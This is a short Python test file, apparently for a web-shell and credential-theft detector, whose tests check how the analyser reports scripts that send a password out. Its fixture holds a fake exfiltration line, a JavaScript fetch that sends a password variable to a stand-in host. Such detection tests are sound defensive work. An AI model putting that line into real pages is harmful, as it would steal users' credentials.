"""Places that send a password somewhere."""

from __future__ import annotations

from tests.client_scripts.test_script_analysis import TAKEN, analysed
from webshellhunt.analysis.browser.sent import MOST_SENT


def test_no_more_exfiltrations_are_listed_than_the_bound() -> None:
    assert len(analysed(TAKEN + 'fetch("//a.example", p);' * (MOST_SENT + 5)).exfiltrations) == MOST_SENT


def test_a_leak_has_its_path_in_words() -> None:
    (leak,) = analysed(TAKEN + 'fetch("//a.example", p);').exfiltrations
    assert leak.words.split(" → ")[1:] == ["p", "fetch"]
    assert not leak.logs_keys
